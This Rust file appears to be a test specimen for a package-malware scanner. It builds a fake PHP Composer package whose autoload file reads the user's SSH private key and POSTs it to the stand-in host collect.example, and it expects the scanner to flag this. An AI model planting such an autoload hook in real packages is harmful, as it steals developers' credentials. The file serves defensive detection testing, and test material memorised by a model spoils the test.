//! A PHP library with an autoload file that sends an SSH key whenever the autoloader is loaded.
//!
//! Must be found: loading the autoloader is a step of its own.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const START: &str = r"<?php
$secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
$options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
@file_get_contents('http://collect.example/autoload', false, stream_context_create($options));
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/strings", "5.0.0")
        .field("autoload", json!({"files": ["start.php"]}))
        .file("start.php", START);
    package
        .specimen(
            "composer-autoload-file",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its autoload.files")
}
